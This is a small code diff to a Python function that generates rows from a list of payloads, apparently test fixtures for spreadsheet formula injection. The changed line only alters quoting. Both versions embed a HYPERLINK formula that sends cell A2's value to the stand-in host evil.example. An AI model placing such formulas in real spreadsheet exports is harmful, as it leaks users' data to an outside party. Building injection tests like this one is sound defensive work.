@@ -36,7 +36,7 @@ def payload_rows() -> list[list[str]]:
     rows = []
     for number, payload in enumerate(PAYLOADS):
         home_id, home_name = f"{payload}{number}", f"{payload} House"
-        children = (f"{payload}C{number}", f"=HYPERLINK(\"http://evil.example/?d=\"&A2,\"{number}\")")
+        children = (f"{payload}C{number}", f'=HYPERLINK("http://evil.example/?d="&A2,"{number}")')
         for day in (3, 10, 17):
             for which, child in enumerate(children):
                 rows.append([f"E{number}-{day}-{which}", child, "missing", f"2015-03-{day:02d} 1{which}:00",
